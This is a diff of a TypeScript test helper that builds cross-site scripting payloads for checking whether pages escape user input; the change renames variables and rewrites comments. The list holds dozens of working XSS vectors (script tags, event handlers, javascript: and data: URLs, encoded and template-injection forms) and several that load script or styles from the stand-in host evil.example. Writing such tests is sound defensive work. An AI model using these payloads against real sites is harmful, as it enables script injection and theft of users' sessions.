@@ -1,81 +1,81 @@
-/** Runs in a page that lets it: leaves a mark, and a dialog. */
-const act = 'window.pwned=1,alert(1)'
+/** Sets a global and opens a dialog if a page runs it. */
+const script = 'window.pwned=1,alert(1)'
 
-/** What has made pages run what their readers wrote. Each carries a number by which it is found as text. */
-const ways: readonly ((mark: string) => string)[] = [
-  (n) => `<script>${act}</script>${n}`,
-  (n) => `"><script>${act}</script>${n}`,
-  (n) => `</script><script>${act}</script>${n}`,
-  (n) => `</title><script>${act}</script>${n}`,
-  (n) => `</textarea><script>${act}</script>${n}`,
-  (n) => `</style><script>${act}</script>${n}`,
-  (n) => `--><script>${act}</script>${n}`,
-  (n) => `]]><script>${act}</script>${n}`,
+/** Known injection vectors. Each contains a mark, by which the test finds it as text. */
+const templates: readonly ((mark: string) => string)[] = [
+  (n) => `<script>${script}</script>${n}`,
+  (n) => `"><script>${script}</script>${n}`,
+  (n) => `</script><script>${script}</script>${n}`,
+  (n) => `</title><script>${script}</script>${n}`,
+  (n) => `</textarea><script>${script}</script>${n}`,
+  (n) => `</style><script>${script}</script>${n}`,
+  (n) => `--><script>${script}</script>${n}`,
+  (n) => `]]><script>${script}</script>${n}`,
   (n) => `<SCRIPT SRC=//evil.example/x.js></SCRIPT>${n}`,
-  (n) => `<ScRiPt>${act}</sCrIpT>${n}`,
-  (n) => `<scr<script>ipt>${act}</scr</script>ipt>${n}`,
-  (n) => `<img src=x onerror="${act}">${n}`,
-  (n) => `<img src=x onerror=${act}//${n}`,
-  (n) => `"><img src=x onerror="${act}">${n}`,
-  (n) => `'><img src=x onerror='${act}'>${n}`,
-  (n) => `<img/src="x"/onerror="${act}">${n}`,
-  (n) => `<img src=x:x onerror\n=\n"${act}">${n}`,
-  (n) => `<svg onload="${act}">${n}`,
-  (n) => `<svg/onload=${act}>${n}`,
-  (n) => `<svg><script>${act}</script></svg>${n}`,
-  (n) => `<svg><animate onbegin="${act}" attributeName=x dur=1s>${n}`,
-  (n) => `<svg><a xlink:href="javascript:${act}"><text y=20>${n}</text></a></svg>`,
-  (n) => `<math><mi xlink:href="javascript:${act}">${n}</mi></math>`,
-  (n) => `<iframe src="javascript:${act}"></iframe>${n}`,
-  (n) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>${n}`,
-  (n) => `<object data="javascript:${act}"></object>${n}`,
-  (n) => `<embed src="javascript:${act}">${n}`,
+  (n) => `<ScRiPt>${script}</sCrIpT>${n}`,
+  (n) => `<scr<script>ipt>${script}</scr</script>ipt>${n}`,
+  (n) => `<img src=x onerror="${script}">${n}`,
+  (n) => `<img src=x onerror=${script}//${n}`,
+  (n) => `"><img src=x onerror="${script}">${n}`,
+  (n) => `'><img src=x onerror='${script}'>${n}`,
+  (n) => `<img/src="x"/onerror="${script}">${n}`,
+  (n) => `<img src=x:x onerror\n=\n"${script}">${n}`,
+  (n) => `<svg onload="${script}">${n}`,
+  (n) => `<svg/onload=${script}>${n}`,
+  (n) => `<svg><script>${script}</script></svg>${n}`,
+  (n) => `<svg><animate onbegin="${script}" attributeName=x dur=1s>${n}`,
+  (n) => `<svg><a xlink:href="javascript:${script}"><text y=20>${n}</text></a></svg>`,
+  (n) => `<math><mi xlink:href="javascript:${script}">${n}</mi></math>`,
+  (n) => `<iframe src="javascript:${script}"></iframe>${n}`,
+  (n) => `<iframe srcdoc="<script>parent.${script}</script>"></iframe>${n}`,
+  (n) => `<object data="javascript:${script}"></object>${n}`,
+  (n) => `<embed src="javascript:${script}">${n}`,
   (n) => `<base href="https://evil.example/">${n}`,
-  (n) => `<meta http-equiv=refresh content="0;url=javascript:${act}">${n}`,
+  (n) => `<meta http-equiv=refresh content="0;url=javascript:${script}">${n}`,
   (n) => `<link rel=stylesheet href=//evil.example/x.css>${n}`,
   (n) => `<style>@import '//evil.example/x.css';</style>${n}`,
-  (n) => `<body onload="${act}">${n}`,
-  (n) => `<input autofocus onfocus="${act}">${n}`,
-  (n) => `<select autofocus onfocus="${act}">${n}`,
-  (n) => `<textarea autofocus onfocus="${act}">${n}`,
-  (n) => `<details open ontoggle="${act}">${n}`,
-  (n) => `<video><source onerror="${act}">${n}`,
-  (n) => `<audio src=x onerror="${act}">${n}`,
-  (n) => `<marquee onstart="${act}">${n}</marquee>`,
-  (n) => `<div style="animation:x" onanimationstart="${act}">${n}</div>`,
-  (n) => `<form action="javascript:${act}"><button>${n}</button></form>`,
-  (n) => `<button formaction="javascript:${act}">${n}</button>`,
-  (n) => `<a href="javascript:${act}">${n}</a>`,
-  (n) => `<a href="data:text/html,<script>${act}</script>">${n}</a>`,
-  (n) => `" autofocus onfocus="${act}" x="${n}`,
-  (n) => `' onmouseover='${act}' x='${n}`,
-  (n) => `\` onclick=\`${act}\` ${n}`,
-  (n) => `javascript:${act}//${n}`,
-  (n) => `JaVaScRiPt:${act}//${n}`,
-  (n) => `java\tscript:${act}//${n}`,
-  (n) => `\u0001javascript:${act}//${n}`,
-  (n) => `data:text/html,<script>${act}</script>${n}`,
-  (n) => `vbscript:${act}//${n}`,
+  (n) => `<body onload="${script}">${n}`,
+  (n) => `<input autofocus onfocus="${script}">${n}`,
+  (n) => `<select autofocus onfocus="${script}">${n}`,
+  (n) => `<textarea autofocus onfocus="${script}">${n}`,
+  (n) => `<details open ontoggle="${script}">${n}`,
+  (n) => `<video><source onerror="${script}">${n}`,
+  (n) => `<audio src=x onerror="${script}">${n}`,
+  (n) => `<marquee onstart="${script}">${n}</marquee>`,
+  (n) => `<div style="animation:x" onanimationstart="${script}">${n}</div>`,
+  (n) => `<form action="javascript:${script}"><button>${n}</button></form>`,
+  (n) => `<button formaction="javascript:${script}">${n}</button>`,
+  (n) => `<a href="javascript:${script}">${n}</a>`,
+  (n) => `<a href="data:text/html,<script>${script}</script>">${n}</a>`,
+  (n) => `" autofocus onfocus="${script}" x="${n}`,
+  (n) => `' onmouseover='${script}' x='${n}`,
+  (n) => `\` onclick=\`${script}\` ${n}`,
+  (n) => `javascript:${script}//${n}`,
+  (n) => `JaVaScRiPt:${script}//${n}`,
+  (n) => `java\tscript:${script}//${n}`,
+  (n) => `\u0001javascript:${script}//${n}`,
+  (n) => `data:text/html,<script>${script}</script>${n}`,
+  (n) => `vbscript:${script}//${n}`,
   (n) => `//evil.example/${n}`,
-  (n) => `\${${act}}${n}`,
-  (n) => `{{constructor.constructor('${act}')()}}${n}`,
-  (n) => `&lt;script&gt;${act}&lt;/script&gt;${n}`,
-  (n) => `&#60;img src=x onerror=${act}&#62;${n}`,
-  (n) => `%3Cscript%3E${act}%3C/script%3E${n}`,
-  (n) => `\u003cimg src=x onerror=${act}\u003e\u202e${n}`,
+  (n) => `\${${script}}${n}`,
+  (n) => `{{constructor.constructor('${script}')()}}${n}`,
+  (n) => `&lt;script&gt;${script}&lt;/script&gt;${n}`,
+  (n) => `&#60;img src=x onerror=${script}&#62;${n}`,
+  (n) => `%3Cscript%3E${script}%3C/script%3E${n}`,
+  (n) => `\u003cimg src=x onerror=${script}\u003e\u202e${n}`,
 ]
 
 export interface Payload {
   text: string
-  /** Where an address belongs: one that would run, whatever the text is. */
+  /** For fields that hold a URL: a URL that runs the script. */
   address: string
-  /** Stands in the text, and in no other. */
+  /** Unique in the text of each payload. */
   mark: string
 }
 
-/** Every one of them, or one in so many. */
+/** Returns `count` payloads, spread evenly over all templates. */
 export function payloads(count: number): Payload[] {
-  const step = ways.length / count
+  const step = templates.length / count
   return Array.from({ length: count }, (_, index) => {
     const number = Math.floor(index * step)
     const mark = `x${number + 100}x`
@@ -87,8 +87,8 @@ export function payloads(count: number): Payload[] {
       'data:text/html,',
     ]
     return {
-      text: ways[number]?.(mark) ?? '',
-      address: `${schemes[number % schemes.length]}${act}//${mark}`,
+      text: templates[number]?.(mark) ?? '',
+      address: `${schemes[number % schemes.length]}${script}//${mark}`,
       mark,
     }
   })
